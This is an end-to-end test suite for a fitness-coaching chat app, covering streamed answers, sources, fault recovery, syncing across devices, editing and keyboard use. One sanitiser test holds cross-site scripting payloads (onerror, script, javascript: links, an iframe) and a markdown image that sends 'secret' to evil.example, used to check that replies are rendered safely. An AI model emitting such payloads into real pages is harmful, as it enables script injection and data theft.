// A conversation with Coach K as an athlete has it.
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { appTest } from './support/app.js';
import { askByApi, must, newAthlete } from './support/athlete.js';
import { ask, composer, conversationId, finishedReply, openTab, replies } from './support/forms.js';
import { until, withFault } from './support/stack.js';

const sled = 'What’s the best sled push technique? I’m struggling with the heavy sled.';

// Runs in the page: every length that the newest reply's text was seen with.
const watchGrowth = () => {
  window.lengths = [];
  new MutationObserver(() => {
    const reply = [...document.querySelectorAll('article[aria-label="Coach K"]')].at(-1);
    const length = reply?.textContent.length ?? 0;
    if (reply?.getAttribute('aria-busy') === 'true' && length !== window.lengths.at(-1))
      window.lengths.push(length);
  }).observe(document.body, { subtree: true, childList: true, characterData: true });
};

appTest('a question is answered piece by piece, with sources, and is there after a reload', async (app) => {
  const { session, supabase } = await newAthlete();
  const page = await app.open({ session });
  await composer(page).waitFor();
  await page.evaluate(watchGrowth);
  await ask(page, sled);
  await page.waitForURL('**/chat/*');
  await page.getByText(sled).first().waitFor();
  const reply = await finishedReply(page);
  const lengths = await page.evaluate(() => window.lengths);
  assert.ok(lengths.length > 10, `the text grew in ${lengths.length} steps`);

  const sources = reply.getByRole('button', { name: /^[1-9]\d* sources?$/ });
  await sources.click();
  const dialog = page.getByRole('dialog', { name: 'Sources' });
  const first = dialog.locator('summary').first();
  await first.click();
  assert.ok((await dialog.getByRole('listitem').first().innerText()).length > 100, 'a source has its text');
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });
  assert.ok(await sources.evaluate((button) => button === document.activeElement), 'the focus is back');

  const id = conversationId(page);
  const text = await reply.innerText();
  await page.reload();
  await (await finishedReply(page)).waitFor();
  assert.equal(await replies(page).last().innerText(), text);
  await page.getByText(sled).first().waitFor();
  const rows = must(await supabase.from('messages').select('role, status').eq('conversation_id', id));
  assert.deepEqual(rows.map(({ role, status }) => `${role} ${status}`).sort(), [
    'assistant complete',
    'user complete',
  ]);

  await page.goto('/');
  const list = page.getByRole('navigation', { name: 'Conversations' });
  await list.locator(`a[href="/chat/${id}"]`).click();
  await page.waitForURL(`**/chat/${id}`);
  await page.getByText(sled).first().waitFor();
});

const smoke = [
  [
    'the sled question is answered with specifics from the research',
    sled,
    async (text) => {
      const specifics = [
        /\bhips?\b|low(er)? (body|position|angle|stance)/i,
        /leg drive|driv(e|ing)[^.]{0,40}legs?|legs?[^.]{0,40}driv/i,
        /\b50 ?-?m/i,
        /\b(102|103|152|153|202|203) ?kg/i,
        /(short|small|quick|choppy)[^.]{0,30}steps?/i,
      ];
      const found = specifics.filter((pattern) => pattern.test(text)).length;
      assert.ok(found >= 3, `${found} specifics in: ${text}`);
    },
  ],
  [
    'a herniated disc gets a referral and no plan',
    'I have a herniated disc at L4-L5. Can you design a training program around it?',
    async (text, reply) => {
      assert.match(text, /physio|physical therap|sports[ -]medicine/i);
      assert.doesNotMatch(text, /\b(week|day) ?1\b|\b[0-9]+ (sets|reps)\b/i);
      assert.equal(await reply.getByRole('button', { name: /log this workout/i }).count(), 0);
    },
  ],
  [
    'a beginner is asked back',
    'I want to get better at Hyrox but I don’t know where to start.',
    async (text) => {
      assert.ok(text.split('?').length > 2, `two questions back in: ${text}`);
    },
  ],
];
for (const [name, question, check] of smoke) {
  appTest(`smoke: ${name}`, async (app) => {
    const { session } = await newAthlete();
    const page = await app.open({ session, size: 'desktop' });
    await ask(page, question);
    const reply = await finishedReply(page);
    await check(await reply.innerText(), reply);
  });
}

appTest('a suggested question is asked with one touch', async (app) => {
  const { session } = await newAthlete();
  const page = await app.open({ session, size: 'small' });
  const suggestions = page.getByRole('list', { name: 'Suggested questions' }).getByRole('button');
  // Nothing else is on a new athlete's screen: all of them are in sight, not in a row to swipe.
  await page.getByText('What you ask Coach K will be kept here.').waitFor();
  for (const one of await suggestions.all()) {
    const { x, width } = await one.boundingBox();
    assert.ok(x >= 0 && x + width <= 320, `“${await one.innerText()}” is on the screen`);
  }
  const suggestion = suggestions.nth(1);
  const question = await suggestion.innerText();
  await suggestion.click();
  await page.waitForURL('**/chat/*');
  await page.getByRole('article', { name: /^You/ }).getByText(question).waitFor();
  await finishedReply(page);
});

appTest('Stop ends an answer and keeps what came; Try again answers anew', async (app) => {
  const { session, supabase } = await newAthlete();
  const page = await app.open({ session });
  await ask(page, withFault(`tokens-per-second=8,times=1,key=${randomUUID()}`, sled));
  const reply = replies(page).last();
  await page.waitForFunction(() => {
    const text = document.querySelector('article[aria-label="Coach K"][aria-busy=true]')?.textContent ?? '';
    return text.split(' ').length > 10;
  });
  await reply.getByRole('button', { name: 'Stop' }).click();
  await reply.getByText('Stopped.').waitFor();
  const id = conversationId(page);
  const read = async () =>
    must(
      await supabase
        .from('messages')
        .select('status, content')
        .eq('conversation_id', id)
        .eq('role', 'assistant')
        .single(),
    );
  const stopped = await read();
  assert.equal(stopped.status, 'cancelled');
  await reply.getByRole('button', { name: 'Try again' }).click();
  await reply.getByText('Stopped.').waitFor({ state: 'hidden' });
  await finishedReply(page);
  assert.equal((await read()).status, 'complete');
});

appTest('a failure of the provider is told, and Try again is answered', async (app) => {
  const { session } = await newAthlete();
  const page = await app.open({ session });
  // The engine repeats a 503 once by itself.
  await ask(page, withFault(`status=503,times=2,key=${randomUUID()}`, sled));
  const reply = await finishedReply(page);
  await reply.getByText(/could not answer/i).waitFor();
  await reply.getByRole('button', { name: 'Try again' }).click();
  await reply.getByText(/could not answer/i).waitFor({ state: 'hidden' });
  await finishedReply(page);
  await reply.getByRole('button', { name: /sources?$/ }).waitFor();
});

appTest('a cold start is told as warming up, to a screen reader, too', async (app) => {
  const { session } = await newAthlete();
  const page = await app.open({ session });
  await ask(page, withFault(`cold-start-ms=4000,times=1,key=${randomUUID()}`, sled));
  await replies(page)
    .getByText(/warming up/i)
    .waitFor();
  await page
    .locator('[aria-live=polite]')
    .getByText(/warming up/i)
    .waitFor();
  await finishedReply(page);
  await page.locator('[aria-live=polite]').getByText('Coach K has answered.').waitFor();
});

appTest('two devices of one athlete see the same, as it happens', async (app) => {
  const athlete = await newAthlete();
  const { conversation } = await askByApi(athlete, 'How heavy are the wall balls?');
  const path = `/chat/${conversation.id}`;
  const [phone, desktop] = [
    await app.open({ session: await athlete.signIn(), path }),
    await app.open({ session: await athlete.signIn(), path, size: 'desktop' }),
  ];
  await finishedReply(phone);
  await finishedReply(desktop);
  await desktop.evaluate(watchGrowth);
  await ask(phone, 'And how do I breathe on the rower?');
  await desktop.getByText('And how do I breathe on the rower?').first().waitFor();
  await desktop.waitForFunction(
    () => document.querySelectorAll('article[aria-label="Coach K"]').length === 2,
  );
  await finishedReply(desktop);
  assert.ok((await desktop.evaluate(() => window.lengths)).length > 10, 'the other device saw it grow');
  assert.equal(
    await replies(desktop).last().locator('p').first().innerText(),
    await replies(phone).last().locator('p').first().innerText(),
  );
  await replies(desktop).last().getByRole('button', { name: 'Good answer' }).click();
  await replies(phone).last().getByRole('button', { name: 'Good answer', pressed: true }).waitFor();
});

appTest(
  'a question may be edited, an answer regenerated and rated, a conversation found, renamed and deleted',
  async (app) => {
    const athlete = await newAthlete();
    const { conversation } = await askByApi(athlete, 'How do I pace the burpee broad jumps?');
    const page = await app.open({
      session: athlete.session,
      path: `/chat/${conversation.id}`,
      size: 'desktop',
    });
    const reply = await finishedReply(page);
    await reply.getByRole('button', { name: 'Bad answer' }).click();
    await until(
      'the rating is stored',
      async () =>
        must(
          await athlete.supabase
            .from('messages')
            .select('feedback')
            .eq('conversation_id', conversation.id)
            .eq('role', 'assistant')
            .single(),
        ).feedback === -1,
    );
    await reply.getByRole('button', { name: 'Answer again' }).click();
    await page.locator('article[aria-label="Coach K"][aria-busy=true]').waitFor();
    await finishedReply(page);
    await reply.getByRole('button', { name: 'Earlier answers' }).click();
    await page.getByRole('dialog').getByText(/\w{5}/).first().waitFor();
    await page.keyboard.press('Escape');

    await page.getByRole('button', { name: 'Edit and ask again' }).first().click();
    await composer(page).fill('How do I pace the farmers carry?');
    await page.keyboard.press('Enter');
    await page.getByRole('article', { name: /^You/ }).getByText('How do I pace the farmers carry?').waitFor();
    await finishedReply(page);

    await page.getByRole('button', { name: 'Rename or delete', exact: true }).click();
    await page.getByLabel('Title').fill('Carries and jumps');
    await page.getByRole('button', { name: 'Rename', exact: true }).click();
    await page.getByRole('heading', { level: 1, name: 'Carries and jumps' }).waitFor();
    const list = page.getByRole('navigation', { name: 'Conversations' });
    await list.getByLabel('Search conversations').fill('carries');
    await list.getByRole('link', { name: /Carries and jumps/ }).waitFor();
    await list.getByLabel('Search conversations').fill('farmers CARRY');
    await list.getByRole('link', { name: /Carries and jumps.*farmers carry/i }).waitFor();
    // Signs that mean “anything” in a pattern stand for themselves.
    for (const nowhere of ['zzzz', 'p*ce', '%%', 'p_ce', 'p.ce']) {
      await list.getByLabel('Search conversations').fill(nowhere);
      await list.getByText(`Nothing found for “${nowhere}”.`).waitFor();
    }
    await list.getByLabel('Search conversations').fill('');
    await page.getByRole('button', { name: 'Rename or delete', exact: true }).click();
    await page.getByRole('button', { name: /delete conversation/i }).click();
    await page.getByRole('button', { name: 'Delete', exact: true }).click();
    await page.waitForURL((address) => address.pathname === '/');
    await list.getByRole('link', { name: /Carries and jumps/ }).waitFor({ state: 'hidden' });
    assert.deepEqual(must(await athlete.supabase.from('conversations').select('id')), []);
  },
);

appTest('what a model writes cannot run, load or lead anywhere harmful', async (app) => {
  const athlete = await newAthlete();
  const { conversation } = await askByApi(athlete, 'Say something.');
  const hostile = [
    'Harmless <b>words</b> <img src=x onerror="window.broken = 1"> <script>window.broken = 2</script>',
    '![steal](https://evil.example/pixel?q=secret) [go](javascript:window.broken=3) [there](https://evil.example/page)',
    '<iframe src="https://evil.example"></iframe> <a href="data:text/html,hi">data</a>',
    '<!-- a note --> Words after a note.',
    '<div onclick="window.broken = 4">Words in a block.</div>',
    '| a | b |\n|---|---|\n| one<br>two | x |',
  ].join('\n\n');
  const device = await app.device({ session: athlete.session });
  const page = await device.newPage();
  const asked = [];
  page.on('request', (request) => asked.push(request.url()));
  let replaced = 0;
  await page.route('**/rest/v1/messages*', async (route) => {
    const response = await route.fetch();
    const rows = await response.json();
    for (const row of Array.isArray(rows) ? rows : []) {
      if (row.role === 'assistant' && 'content' in row) {
        row.content = hostile;
        replaced++;
      }
    }
    await route.fulfill({ response, json: rows });
  });
  await page.goto(`/chat/${conversation.id}`);
  const reply = await finishedReply(page);
  await reply.getByText(/Harmless/).waitFor();
  assert.ok(replaced > 0);
  // Nothing that was said is lost with the markup.
  await reply.getByText('Words after a note.', { exact: true }).waitFor();
  await reply.getByText('Words in a block.', { exact: true }).waitFor();
  assert.equal(await reply.getByRole('cell', { name: /one\s*two/ }).locator('br').count(), 1);
  const found = await reply.evaluate((element) => ({
    broken: window.broken,
    images: element.querySelectorAll('img, iframe, script, object, form').length,
    links: [...element.querySelectorAll('a')].map((link) => [link.protocol, link.rel, link.href].join(' ')),
  }));
  assert.equal(found.broken, undefined);
  assert.equal(found.images, 0);
  for (const link of found.links) {
    assert.doesNotMatch(link, /^(javascript|data):/);
    if (link.includes('evil.example')) assert.match(link, /noopener|noreferrer/);
  }
  assert.deepEqual(
    asked.filter((url) => url.includes('evil.example')),
    [],
  );
});

appTest('with a keyboard alone: ask, read, next question', async (app) => {
  const { session } = await newAthlete();
  const page = await app.open({ session, size: 'desktop' });
  await composer(page).waitFor();
  for (let presses = 0; presses < 40; presses++) {
    if (await composer(page).evaluate((element) => element === document.activeElement)) break;
    await page.keyboard.press('Tab');
  }
  await page.keyboard.type('How do I breathe on the ski erg?');
  await page.keyboard.press('Shift+Enter');
  await page.keyboard.type('And on the rower?');
  await page.keyboard.press('Enter');
  await page.waitForURL('**/chat/*');
  await finishedReply(page);
  const question = await page.getByRole('article', { name: /^You/ }).locator('p').first().innerText();
  assert.match(question, /ski erg\?\n+And on the rower\?/);
  await openTab(page, 'Log');
  await page.goBack();
  await replies(page).last().waitFor();
});
